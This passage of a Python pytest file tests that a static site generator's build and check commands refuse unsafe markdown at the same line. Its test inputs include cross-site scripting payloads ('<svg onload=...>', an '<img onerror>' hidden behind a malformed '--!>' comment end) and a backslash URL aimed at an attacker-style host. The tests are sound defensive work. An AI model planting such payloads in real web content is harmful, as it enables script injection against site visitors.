    "raw-html": ({"content/articles/a.md": md(ARTICLE_FRONT, "Intro.\n\n<p>x</p>\n<svg onload=alert(1)>")},
                 "content/articles/a.md:9: the text contains a <svg> element, which is not allowed"),
    "url": ({"content/articles/a.md": md(ARTICLE_FRONT, "Intro.\n\n![x](/\\evil.example/p.png)")},
            "content/articles/a.md:8: the text contains a web address with a backslash, which is not allowed"),
    "directive": ({"content/articles/a.md": md(ARTICLE_FRONT, "<div>\n[[contacts]]\n</div>")},
                  "content/articles/a.md:7: the text contains a [[contacts]] directive inside HTML or a link, "
                  "which is not allowed"),
    "quote": ({"content/articles/a.md": md(ARTICLE_FRONT, "[[quote: q]]"),
               "content/quotes/q.md": quote_file("Say <!-- x --!><img src=x onerror=alert(1)> -->")},
              "content/quotes/q.md:10: the text contains an HTML comment, which is not allowed"),
    "loop": ({"content/quotes/q.md": quote_file("[[quote: q]]")},
             "content/quotes/q.md:10: the quote 'q' would show inside itself (q -> q)"),
}


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_check_reports_the_same_refusal_as_build_at_the_same_line(make_site, case):
    files, error = REFUSALS[case]
    root = make_site(files)
    built = run_cli("build", "--root", root)
    checked = run_cli("check", "--root", root)
    assert built.status == checked.status == 1
    assert built.err.splitlines()[0] == f"error: {error}"
    location, message = error.split(": ", 1)
    assert checked.out.splitlines()[0] == f"{location}: error: {message}"
    assert checked.out.splitlines()[1] == "  " + built.err.splitlines()[1]


def test_no_html_comment_reaches_a_page_of_the_real_site(real_site):
    for page in sorted(real_site.rglob("*.html")):
        assert "<!--" not in page.read_text(encoding="utf-8"), page.relative_to(real_site)
